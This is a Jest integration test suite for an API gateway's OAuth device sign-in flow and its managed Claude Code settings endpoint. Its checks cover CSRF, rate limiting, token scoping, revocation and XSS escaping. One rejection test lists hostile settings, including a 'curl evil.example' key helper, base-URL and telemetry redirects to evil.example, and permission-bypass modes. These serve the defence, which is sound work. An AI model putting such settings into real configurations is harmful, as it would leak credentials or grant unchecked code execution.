import { createHash, randomBytes } from 'node:crypto';
import { FlowCookie } from '../../src/admin/oidc/flow-cookie.js';
import { endPerson } from '../../src/identity/sign-in/end-sign-ins.js';
import { SignInRetention } from '../../src/identity/sign-in/sign-in-retention.service.js';
import { DataSource } from 'typeorm';
import { OpenIdProvider } from '../admin/openid-provider.js';
import { soon } from '../support/eventually.js';
import { ADMIN_TOKEN, startTestGateway, type TestGateway } from '../support/gateway.js';
import { answer, RawProvider } from '../support/raw-provider.js';
import { unusedPort } from '../support/unused-port.js';
import {
  Browser,
  DEVICE_GRANT,
  nextAddress,
  type Page,
  poll,
  refreshOf,
  renew,
  signedIn,
  signInSettings,
  startDevice,
  USERS,
} from './device-flow.js';
import { postForm, statusWith } from './exchanges.js';
import { storeTokens, storeTrust } from './stored-tokens.js';

let provider: RawProvider;
let issuer: OpenIdProvider;
let postern: TestGateway;
/** Of the same database. */
let replica: TestGateway;

beforeAll(async () => {
  for (const level of ['warn', 'info'] as const) jest.spyOn(console, level).mockImplementation(() => {});
  provider = await RawProvider.start((req) => void req.socket.write(answer('200 OK', [], 'reached')));
  const publicUrl = `http://127.0.0.1:${await unusedPort()}`;
  issuer = await OpenIdProvider.start(publicUrl, USERS, { refresh: true });
  // Replicas have one master key, from which the tokens that follow a secret derive.
  const masterKey = randomBytes(32).toString('base64');
  const settings = {
    ...{ PROVIDER_URL: provider.url, MASTER_KEY: masterKey },
    ...signInSettings(issuer, publicUrl),
  };
  postern = await startTestGateway(settings);
  replica = await startTestGateway({ ...settings, PORT: '0' }, postern.database);
  await postern.admin('PATCH', '/teams/default', { sign_in: {} });
});
afterAll(async () => {
  await replica.stop();
  await postern.stop();
  await issuer.stop();
  await provider.stop();
});

const rows = (sql: string, values: unknown[] = []) =>
  postern.database.query<Record<string, unknown>>(sql, values);

/** Lets the next poll be in time. */
const later = () => rows('UPDATE device_request SET last_poll_at = NULL');

async function begun(as = 'jane'): Promise<{ browser: Browser; asked: Page; device: string; code: string }> {
  const { body } = await startDevice(postern);
  const browser = new Browser(postern);
  const asked = await browser.identify(issuer, body.user_code, as);
  return { browser, asked, device: body.device_code, code: body.user_code };
}

describe('the device page', () => {
  it('has no script, sends no referrer, cannot be framed, and takes no code from a link', async () => {
    const page = await new Browser(postern).get('/device?user_code=WDJB-MJHT');
    expect(page.html).not.toContain('WDJB');
    expect(page.html).not.toContain('<script');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    expect(page.headers.get('content-security-policy')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'self'; frame-ancestors 'none'",
    );
    expect(page.headers.get('cache-control')).toBe('no-store');
  });

  it('signs nobody in without the button, and never after a denial', async () => {
    const { browser, asked, device } = await begun();
    expect(await poll(postern, device)).toMatchObject({ error: 'authorization_pending' });
    expect((await browser.confirm(asked, 'deny')).html).toContain('The terminal was not signed in');
    await later();
    expect(await poll(postern, device)).toMatchObject({ status: 400, error: 'access_denied' });
    // The page of before is of no more use.
    expect((await browser.confirm(asked, 'approve')).status).toBe(410);
    expect(await poll(postern, device)).toMatchObject({ error: 'access_denied' });
  });

  it('takes no form of another origin, and none without its cookie or with that of another', async () => {
    const { code, browser, asked, device } = await begun();
    for (const site of ['cross-site', 'same-site', 'none']) {
      const headers = { 'sec-fetch-site': site };
      expect((await browser.post('/device', { user_code: code }, headers)).status).toBe(403);
      expect((await browser.post('/device/confirm', { action: 'approve' }, headers)).status).toBe(403);
    }
    const token = /name="form_token" value="([^"]+)"/.exec(asked.html)![1]!;
    const [, team] = /name="team" value="([^"]+)"/.exec(asked.html)!;
    const form = { form_token: token, team: team!, action: 'approve' };
    expect((await new Browser(postern).post('/device/confirm', form)).status).toBe(410);
    const other = await begun('heir');
    expect((await other.browser.post('/device/confirm', form)).status).toBe(410);
    expect((await browser.post('/device/confirm', { ...form, form_token: 'x' })).status).toBe(410);
    await later();
    expect(await poll(postern, device)).toMatchObject({ error: 'authorization_pending' });
    expect((await browser.post('/device/confirm', form)).status).toBe(200);
  });

  it('takes a team of the person only', async () => {
    const { id } = await postern.admin<{ id: string }>('POST', '/teams', { name: 'foreign', sign_in: {} });
    const { browser, asked } = await begun();
    const token = /name="form_token" value="([^"]+)"/.exec(asked.html)![1]!;
    const page = await browser.post('/device/confirm', { form_token: token, team: id, action: 'approve' });
    expect(page.status).toBe(403);
  });

  it('serves a callback for its purpose only, in the browser that began it, and once', async () => {
    const { body } = await startDevice(postern);
    const browser = new Browser(postern);
    const page = await browser.post('/device', { user_code: body.user_code });
    const callback = await browser.atProvider(issuer, refreshOf(page), 'ada');
    expect((await new Browser(postern).get(callback)).status).toBe(400);
    // An administrator without a group of a team: neither a session nor a terminal.
    const back = await browser.get(callback);
    expect(back.status).toBe(403);
    expect([...browser.cookies().keys()]).toEqual([]);
    const jane = await begun();
    expect([...jane.browser.cookies().keys()]).toEqual(['postern_device']);
    const state = { state: 'x', nonce: 'y', verifier: 'z', returnTo: '/console' };
    const forged = await new FlowCookie(postern.url, 'another-admin-token-01').set({
      purpose: 'device',
      ...state,
    });
    const headers = { cookie: forged.split(';')[0]! };
    const target = `${postern.url}/admin/v1/oidc/callback?code=a&state=x`;
    expect((await fetch(target, { headers })).status).toBe(400);
  });

  it('asks for single sign-on, whatever session of the console the browser has', async () => {
    const session = await fetch(`${postern.url}/admin/v1/session`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ token: ADMIN_TOKEN }),
    });
    const [cookie] = session.headers.getSetCookie()[0]!.split(';');
    const { body } = await startDevice(postern);
    const browser = new Browser(postern);
    browser.cookies().set(...(cookie!.split('=') as [string, string]));
    expect((await browser.get('/device/confirm')).status).toBe(410);
    const page = await browser.post('/device', { user_code: body.user_code });
    expect(refreshOf(page).startsWith(issuer.url)).toBe(true);
  });

  it('shows what a client says of itself as text', async () => {
    const { body } = await startDevice(postern, '', { 'user-agent': '<script>alert(1)</script>' });
    const asked = await new Browser(postern).identify(issuer, body.user_code, 'jane');
    expect(asked.html).toContain('&#60;script&#62;alert(1)');
    expect(asked.html).not.toContain('<script');
  });

  it('takes 10 wrong codes from an address', async () => {
    const headers = { 'sec-fetch-site': 'same-origin', 'x-forwarded-for': nextAddress() };
    const browser = new Browser(postern);
    const { body } = await startDevice(postern);
    for (let i = 0; i < 10; i++)
      expect((await browser.post('/device', { user_code: 'BBBB-BBBB' }, headers)).status).toBe(400);
    expect((await browser.post('/device', { user_code: 'BBBB-BBBB' }, headers)).status).toBe(429);
    // The right one neither: it would tell which is right.
    expect((await browser.post('/device', { user_code: body.user_code }, headers)).status).toBe(429);
    expect((await browser.post('/device', { user_code: body.user_code })).status).toBe(200);
  });
});

describe('a request of a client', () => {
  it('is told to slow down, and each time by 5 seconds more', async () => {
    const { body } = await startDevice(postern);
    expect(await poll(postern, body.device_code)).toMatchObject({ error: 'authorization_pending' });
    for (const one of [replica, postern]) {
      // However long a busy machine takes, the next poll is too early.
      await rows(`UPDATE device_request SET last_poll_at = last_poll_at + interval '1 minute'`);
      expect(await poll(one, body.device_code)).toMatchObject({ status: 400, error: 'slow_down' });
    }
    const found = await rows('SELECT interval_s FROM device_request WHERE interval_s > 5');
    expect(found).toEqual([{ interval_s: 15 }]);
  });

  it('gives no token once it has expired, also if it was confirmed', async () => {
    const { body } = await startDevice(postern);
    const { browser, asked, device } = await begun();
    await browser.confirm(asked, 'approve');
    await rows('UPDATE device_request SET expires_at = now()');
    expect(await poll(postern, body.device_code)).toMatchObject({ status: 400, error: 'expired_token' });
    expect(await poll(postern, device)).toMatchObject({ status: 400, error: 'expired_token' });
    expect((await browser.post('/device', { user_code: body.user_code })).status).toBe(400);
  });

  it('begins 30 times a minute from an address, and 100 wait, of which the oldest unopened makes room', async () => {
    const address = { 'x-forwarded-for': nextAddress() };
    const first = await startDevice(postern, '', address);
    expect((await new Browser(postern).post('/device', { user_code: first.body.user_code })).status).toBe(
      200,
    );
    for (let i = 1; i < 30; i++) expect((await startDevice(postern, '', address)).status).toBe(200);
    const late = await startDevice(postern, '', address);
    expect([late.status, late.headers.get('retry-after')]).toEqual([429, '60']);
    const waiting = `client_network = (SELECT client_network FROM device_request ORDER BY created_at DESC LIMIT 1)`;
    await rows(`
      INSERT INTO device_request (id, device_digest, user_code_digest, surface, client_network, interval_s, expires_at)
      SELECT gen_random_uuid(), sha256(random()::text::bytea), sha256(random()::text::bytea), 'x', client_network, 5, expires_at
      FROM device_request, generate_series(1, 70) WHERE id = (SELECT id FROM device_request WHERE ${waiting} LIMIT 1)`);
    // A replica has a count of its own of the last minute.
    expect((await startDevice(replica, '', address)).status).toBe(200);
    const [count] = await rows(
      `SELECT count(*)::int AS count, count(opened_at)::int AS opened FROM device_request WHERE ${waiting}`,
    );
    expect(count).toEqual({ count: 100, opened: 1 });
  });

  it.each([
    ['a parameter twice', 'device_code=a&device_code=b'],
    ['no code', 'x=1'],
  ])('is malformed: %s', async (_, form) => {
    const body = new URLSearchParams(`grant_type=${encodeURIComponent(DEVICE_GRANT)}&${form}`);
    const response = await fetch(`${postern.url}/oauth/token`, { method: 'POST', body });
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ error: 'invalid_request' });
  });
});

describe('a token', () => {
  it('opens only what it is for', async () => {
    const { access, refresh, device } = await signedIn(postern, issuer);
    for (const wrong of [refresh, device]) expect(await statusWith(postern, wrong)).toBe(401);
    for (const wrong of [access, device, 'ptr_x', refresh.replace(/.$/, '!')])
      expect(await renew(postern, wrong)).toMatchObject({ status: 400, error: 'invalid_grant' });
    for (const wrong of [access, refresh])
      expect(await poll(postern, wrong)).toMatchObject({ status: 400, error: 'invalid_grant' });
    const admin = await fetch(`${postern.url}/admin/v1/teams`, {
      headers: { authorization: `Bearer ${access}` },
    });
    expect(admin.status).toBe(401);
  });

  it('never stands in a target: refresh tokens and device codes are credentials there too', async () => {
    const { refresh, device } = await signedIn(postern, issuer);
    for (const secret of [refresh, device]) {
      const response = await fetch(`${postern.url}/v1/models?x=${secret}`);
      expect([response.status, response.headers.get('x-gateway-error')]).toEqual([
        400,
        'credential_in_query',
      ]);
    }
  });

  it('dies on every replica with its person, and none is issued to them any more', async () => {
    const { access, refresh } = await signedIn(postern, issuer);
    const open = await begun();
    for (const one of [postern, replica]) expect(await statusWith(one, access)).toBe(200);
    const [person] = await rows(`SELECT id FROM person WHERE subject = 'jane'`);
    const dataSource = postern.gateway.app.get(DataSource);
    await dataSource.transaction(async (manager) => {
      expect(await endPerson(manager, person!.id as string, { name: 'test', address: null })).toBe(true);
    });
    await soon(async () => (await statusWith(postern, access)) === 401);
    await soon(async () => (await statusWith(replica, access)) === 401);
    expect(await renew(replica, refresh)).toMatchObject({ status: 400, error: 'invalid_grant' });
    // What was under way is gone, and another sign-in is refused.
    expect((await open.browser.confirm(open.asked, 'approve')).status).toBe(410);
    const again = await begun();
    expect(again.asked.status).toBe(403);
    expect(again.asked.html).toContain('Your access was ended');
    await rows('UPDATE person SET ended_at = NULL, reopened_at = now()');
    expect((await begun()).asked.status).toBe(200);
  });

  it('is of nobody else: an address that was given to another makes another person', async () => {
    await signedIn(postern, issuer, 'jane');
    await signedIn(postern, issuer, 'heir');
    await signedIn(postern, issuer, 'unverified');
    const found = await rows(`
      SELECT p.subject, p.email, k.name FROM person p JOIN gateway_key k ON k.person_id = p.id
      WHERE p.subject IN ('jane', 'heir', 'unverified') ORDER BY p.subject`);
    expect(found).toEqual([
      { subject: 'heir', email: 'jane@example.com', name: 'jane@example.com 2' },
      { subject: 'jane', email: 'jane@example.com', name: 'jane@example.com' },
      { subject: 'unverified', email: null, name: 'sub:unverified' },
    ]);
  });

  it('is not given to a person whose key in the team was revoked, until they are let in again', async () => {
    await signedIn(postern, issuer, 'boss');
    const { data } = await postern.admin<{ data: { id: string }[] }>('GET', '/keys?search=boss');
    await postern.admin('POST', `/keys/${data[0]!.id}/revoke`);
    expect((await begun('boss')).asked.status).toBe(403);
    const blocked = async () =>
      (await postern.admin<{ blocked_teams: string[] }>('GET', '/people/boss@example.com')).blocked_teams;
    expect(await blocked()).toEqual(['default']);
    await postern.admin('POST', '/people/boss@example.com/reopen', {});
    expect(await blocked()).toEqual([]);
    const [entry] = await rows(
      `SELECT after FROM audit_log WHERE action = 'reopened' ORDER BY id DESC LIMIT 1`,
    );
    expect(entry).toMatchObject({ after: { teams: ['default'] } });
    await signedIn(postern, issuer, 'boss');
    const after = await postern.admin<{ data: { name: string }[] }>('GET', '/keys?search=boss');
    expect(after.data.map(({ name }) => name)).toEqual(['boss@example.com 2', 'boss@example.com']);
  });

  it('is renewed on two replicas at once: both get the same pair, of one sign-in', async () => {
    const { refresh } = await signedIn(postern, issuer);
    const all = await Promise.all([postern, replica, postern, replica].map((one) => renew(one, refresh)));
    expect(new Set(all.map(({ access_token: token }) => token)).size).toBe(1);
    const used = createHash('sha256').update(refresh).digest('hex');
    const [count] = await rows(
      `SELECT count(*)::int AS tokens FROM refresh_token
       WHERE sign_in_id = (SELECT sign_in_id FROM refresh_token WHERE digest = decode($1, 'hex'))`,
      [used],
    );
    expect(count).toEqual({ tokens: 2 });
  });

  it('is not in a dump of the database', async () => {
    const { access, refresh, device } = await signedIn(postern, issuer);
    const tables = await rows(
      `SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public'`,
    );
    let dump = '';
    for (const { name } of tables)
      dump += JSON.stringify(await rows(`SELECT t::text FROM "${String(name)}" t`));
    expect(dump).toContain('jane@example.com');
    for (const secret of [access, refresh, device]) expect(dump).not.toContain(secret.slice(12));
  });
});

describe('what is for Claude Code', () => {
  const settings = (token: string | null, base = '', more: Record<string, string> = {}) =>
    fetch(`${postern.url}${base}/managed/settings`, {
      headers: { ...(token !== null && { authorization: `Bearer ${token}` }), ...more },
    });

  it.each(['', '/p/default'])('are the settings of its team, for tokens of sign-ins: %j', async (base) => {
    const { access } = await signedIn(postern, issuer);
    await postern.admin('PATCH', '/teams/default', { claude_code: null });
    expect((await settings(access, base)).status).toBe(404);
    const claudeCode = { permissions: { deny: ['WebFetch'] }, availableModels: ['sonnet'] };
    await postern.admin('PATCH', '/teams/default', { claude_code: claudeCode });
    const response = await settings(access, base);
    const body = (await response.json()) as { checksum: string; settings: object };
    const canonical = '{"availableModels":["sonnet"],"permissions":{"deny":["WebFetch"]}}';
    const checksum = `sha256:${createHash('sha256').update(canonical).digest('hex')}`;
    expect(body).toMatchObject({ checksum, settings: claudeCode });
    expect(response.headers.get('etag')).toBe(`"${checksum}"`);
    const same = await settings(access, base, { 'if-none-match': `"${checksum}"` });
    expect([same.status, same.headers.get('content-length'), await same.text()]).toEqual([304, null, '']);
    // As before for others: at the root there is nothing, below a provider it is a call.
    expect((await settings(postern.key, base)).status).toBe(base === '' ? 404 : 403);
    expect((await settings(null, base)).status).toBe(base === '' ? 404 : 401);
  });

  it('and what gives tokens is a call as before for static keys and for tokens of trusts', async () => {
    const { access } = await signedIn(postern, issuer);
    const key = await postern.admin<{ id: string }>('POST', '/keys', { team: 'default', name: 'of a trust' });
    const trustId = await storeTrust(postern.database, key.id);
    const [token] = await storeTokens(postern.database, { keyId: key.id, trustId });
    expect(await statusWith(postern, token!)).toBe(200);
    const own = ['/oauth/token', '/oauth/revoke', '/oauth/device_authorization', '/v1/metrics'];
    for (const path of own.map((one) => `/p/default${one}`)) {
      const send = async (credential: string) =>
        (await postForm(postern.url + path, { x: '1' }, { authorization: `Bearer ${credential}` })).headers;
      for (const credential of [postern.key, token!])
        expect([path, (await send(credential)).get('x-gateway-error')]).toEqual([
          path,
          'endpoint_not_allowed',
        ]);
      // The gateway itself responds, which forwards nothing and has no code of its own.
      expect([path, (await send(access)).get('x-gateway-error')]).toEqual([path, null]);
    }
    for (const base of ['', '/p/default'])
      expect((await settings(token!, base)).status).toBe(base === '' ? 404 : 403);
  });

  it.each(['metrics', 'logs', 'traces'])('discards %s of a sign-in, and leaves no row', async (name) => {
    const { access } = await signedIn(postern, issuer);
    const send = (token: string, body: string) =>
      fetch(`${postern.url}/p/default/v1/${name}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body,
      });
    expect((await send(access, '{"x":1}')).status).toBe(200);
    expect((await send(access, 'x'.repeat(4_194_305))).status).toBe(413);
    expect((await send(postern.key, '{}')).status).toBe(403);
    // Rows are written in the order of their calls: once this one is there, so would be the others.
    const later = await fetch(`${postern.url}/p/default/v1/models`, {
      headers: { authorization: `Bearer ${postern.key}` },
    });
    await postern.row(later.headers.get('x-gateway-request-id')!);
    expect(await rows(`SELECT FROM request_log WHERE path LIKE '%/v1/${name}'`)).toEqual([]);
  });

  it.each([
    { hooks: {} },
    { apiKeyHelper: 'curl evil.example' },
    { statusLine: { type: 'command', command: 'x' } },
    { env: { NODE_OPTIONS: '--require x' } },
    { env: { OTEL_EXPORTER_OTLP_ENDPOINT: 'https://evil.example' } },
    { env: { ANTHROPIC_BASE_URL: 'https://evil.example' } },
    { otelHeadersHelper: '/tmp/x' },
    { awsAuthRefresh: 'x' },
    { awsCredentialExport: 'x' },
    { mcpServers: { x: { command: 'x' } } },
    { enableAllProjectMcpServers: true },
    { enabledPlugins: { 'x@y': true } },
    { extraKnownMarketplaces: {} },
    { fileSuggestion: { type: 'command', command: 'x' } },
    { permissions: { additionalDirectories: ['/'] } },
    { availableModels: ['a\u001b[2J'] },
    { permissions: { allow: ['Bash'] } },
    { permissions: { defaultMode: 'bypassPermissions' } },
    { permissions: { disableBypassPermissionsMode: 'enable' } },
    { model: 'a b' },
  ])('rejects settings that could run something: %j', async (claudeCode) => {
    const response = await fetch(`${postern.url}/admin/v1/teams/default`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ claude_code: claudeCode }),
    });
    expect(response.status).toBe(400);
  });
});

it('deletes what has ended, in time', async () => {
  const { refresh } = await signedIn(postern, issuer);
  await renew(postern, refresh);
  await rows(`UPDATE device_request SET expires_at = now() - interval '25 hours'`);
  await rows(`UPDATE refresh_token SET used_at = used_at - interval '25 hours'`);
  await rows(`UPDATE sign_in SET ended_at = now() - interval '91 days' WHERE ended_at IS NOT NULL`);
  await postern.gateway.app.get(SignInRetention).run();
  const [left] = await rows(`SELECT (SELECT count(*) FROM device_request)::int AS requests,
    (SELECT count(*) FROM refresh_token WHERE used_at IS NOT NULL)::int AS used,
    (SELECT count(*) FROM sign_in WHERE ended_at IS NOT NULL)::int AS ended,
    (SELECT count(*) FROM sign_in) > 0 AS others`);
  expect(left).toEqual({ requests: 0, used: 0, ended: 0, others: true });
});

describe('without SIGN_IN', () => {
  it('nothing of it is served', async () => {
    const off = await startTestGateway({ PROVIDER_URL: provider.url });
    expect((await fetch(`${off.url}/device`)).status).toBe(404);
    expect((await fetch(`${off.url}/managed/settings`)).status).toBe(404);
    for (const path of ['/oauth/device_authorization', '/oauth/token', '/oauth/revoke'])
      expect((await postForm(off.url + path, { surface: 'x' })).status).toBe(404);
    expect((await postForm(`${off.url}/p/default/oauth/device_authorization`, {})).status).toBe(401);
    await off.stop();
  });
});
